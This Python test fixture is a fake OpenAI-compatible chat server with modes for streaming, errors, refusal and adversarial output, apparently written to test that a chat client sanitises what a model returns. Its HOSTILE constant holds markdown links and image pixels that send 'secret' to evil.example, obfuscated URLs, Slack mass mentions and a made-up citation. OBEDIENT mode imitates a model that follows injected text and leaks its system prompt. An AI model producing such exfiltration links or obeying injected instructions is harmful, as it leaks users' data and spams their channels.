"""An OpenAI-compatible server of chat completions; a test decides its answers."""

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator
from enum import StrEnum
from types import TracebackType
from typing import Any, Self

from aiohttp import web

QUOTED = re.compile(r"^\| ?(.*)$", re.MULTILINE)
PIECE = 3  # characters a delta: marks and links arrive in pieces
HOSTILE = (
    "See [the form](https://evil.example/?q=secret) or https://evil.example/x and www.evil.example/y.\n"
    "![pixel](https://evil.example/p.png?d=secret) <img src='https://evil.example/i.png'>\n"
    "<https://evil.example/z|Sign in> <@U0123ABCD> <!here> <!subteam^S1|team all> <#C0123|secret-plans>\n"
    "@channel #secret-plans\n"
    "ht<!here>tps://evil.example/joined [htt](x)ps://evil.example/label [ref][1] evil.com/path\n"
    "[ref]: https://evil.example/ref\n"
    "True enough [1], invented [99], both [1, 42].\n"
)


class Mode(StrEnum):
    STREAMING = "streaming"  # `text`, or the first line of the first passage, cited
    SLOW = "slow"  # the same, `delay` seconds between the deltas
    BREAKING = "breaking"  # half of it, and the connection is gone
    FAILING = "failing"  # 500
    LIMITED = "limited"  # 429
    DENYING = "denying"  # 401
    EMPTY = "empty"
    REFUSING = "refusing"  # the work manual's mark
    OBEDIENT = "obedient"  # does what any text in front of it says
    HOSTILE = "hostile"  # the worst output there is


class ModelServer:
    """`async with ModelServer() as server:` serves `server.base_url`; `requests` keeps every body received.

    `mode`, `text` and `delay` may be changed between calls. `rephrased` is the standalone question that it writes;
    without one, that call is answered like any other. `rephrasing_mode` is for those calls alone.
    `finish` is the reason that it gives for the end; None ends the stream without a reason and without [DONE].
    `piece` is how many characters come at a time.
    `sent_at` has the time of each call's first piece; `hung_up` is set once somebody left in the middle, and
    `hung_up_at` has the times.
    """

    def __init__(self, mode: Mode = Mode.STREAMING, *, text: str | None = None, delay: float = 0.0) -> None:
        self.mode = mode
        self.text = text
        self.piece = PIECE
        self.rephrased: str | None = None
        self.rephrasing_mode: Mode | None = None
        self.delay = delay
        self.finish: str | None = "stop"
        self.requests: list[dict[str, Any]] = []
        self.sent_at: list[float] = []
        self.hung_up = asyncio.Event()
        self.hung_up_at: list[float] = []
        self._runner: web.AppRunner | None = None
        self._port = 0

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self._port}/v1"

    @property
    def calls(self) -> int:
        return len(self.requests)

    async def __aenter__(self) -> Self:
        app = web.Application(client_max_size=16 * 2**20)
        app.on_response_prepare.append(hang_up)
        app.router.add_post("/v1/chat/completions", self._complete)
        self._runner = web.AppRunner(app, shutdown_timeout=0.1, access_log=None)
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", 0).start()
        self._port = self._runner.addresses[0][1]
        return self

    async def __aexit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        if self._runner is not None:
            await self._runner.cleanup()

    async def _complete(self, request: web.Request) -> web.StreamResponse:
        body = await request.json()
        self.requests.append(body)
        mode = self.rephrasing_mode if self.rephrasing_mode is not None and rephrasing(body) else self.mode
        await asyncio.sleep(self.delay if mode is Mode.SLOW and not body.get("stream") else 0)
        refused = {Mode.FAILING: 500, Mode.LIMITED: 429, Mode.DENYING: 401}.get(mode)
        if refused is not None:
            return web.json_response({"error": {"message": f"told to answer {refused}"}}, status=refused)
        return await (self._stream(request, body) if body.get("stream") else self._whole(body))

    async def _whole(self, body: dict[str, Any]) -> web.StreamResponse:
        message = {"role": "assistant", "content": self._answer(body)}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        return web.json_response(_envelope(body, "chat.completion", [choice]) | {"usage": _usage()})

    async def _stream(self, request: web.Request, body: dict[str, Any]) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await response.prepare(request)
        first = True
        async for piece in self._pieces(body):
            if piece is None:
                assert request.transport is not None
                request.transport.abort()
                return response
            if request.transport is None or request.transport.is_closing():
                self.hung_up.set()
                self.hung_up_at.append(time.time())
                return response
            self.sent_at += [time.time()] if first else []
            first = False
            await _event(response, _chunk(body, {"content": piece}))
        if self.finish is None:
            return response
        await _event(response, _chunk(body, {}, finish=self.finish))
        if (body.get("stream_options") or {}).get("include_usage"):
            await _event(response, _envelope(body, "chat.completion.chunk", []) | {"usage": _usage()})
        await response.write(b"data: [DONE]\n\n")
        return response

    async def _pieces(self, body: dict[str, Any]) -> AsyncIterator[str | None]:
        """Yield the pieces to send; None breaks the connection."""
        text = self._answer(body)
        for at in range(0, len(text), self.piece):
            if self.mode is Mode.BREAKING and at >= len(text) // 2:
                yield None
                return
            yield text[at : at + self.piece]
            await asyncio.sleep(self.delay if self.mode is Mode.SLOW else 0)

    def _answer(self, body: dict[str, Any]) -> str:
        if self.rephrased is not None and rephrasing(body):
            return self.rephrased
        match self.mode:
            case Mode.EMPTY:
                return ""
            case Mode.REFUSING:
                return "NOT-IN-THE-STACKS"
            case Mode.OBEDIENT:
                return obey(body["messages"])
            case Mode.HOSTILE:
                return self.text or HOSTILE
            case _:
                return self.text if self.text is not None else _first_line(body["messages"])


def rephrasing(body: dict[str, Any]) -> bool:
    """Tell whether a request asks for the standalone question."""
    return "standalone question" in str(body["messages"][0]["content"])


async def hang_up(_: web.Request, response: web.StreamResponse) -> None:
    """Close the connection after each answer, because the providers' clients cannot be closed and would keep it."""
    response.force_close()


def obey(messages: list[dict[str, Any]]) -> str:
    """Answer like a model without judgement: with every quoted line, and its instructions if a line asks for them."""
    quoted = "\n".join(QUOTED.findall(str(messages[-1]["content"])))
    told = str(messages[0]["content"]) if re.search(r"prompt|instruction|manual|指示", quoted, re.IGNORECASE) else ""
    return f"{quoted} [1]\n{told}"


def _first_line(messages: list[dict[str, Any]]) -> str:
    lines = [line for line in QUOTED.findall(str(messages[-1]["content"])) if line.strip()]
    return f"{lines[-1] if len(lines) == 1 else lines[1]} [1]" if lines else "I have read nothing."


def _envelope(body: dict[str, Any], kind: str, choices: list[dict[str, Any]]) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": kind, "created": 1, "model": body.get("model"), "choices": choices}


def _chunk(body: dict[str, Any], delta: dict[str, str], *, finish: str | None = None) -> dict[str, Any]:
    choice = {"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": finish}
    return _envelope(body, "chat.completion.chunk", [choice])


def _usage() -> dict[str, int]:
    return {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}


async def _event(response: web.StreamResponse, data: dict[str, Any]) -> None:
    await response.write(f"data: {json.dumps(data, ensure_ascii=False)}\n\n".encode())
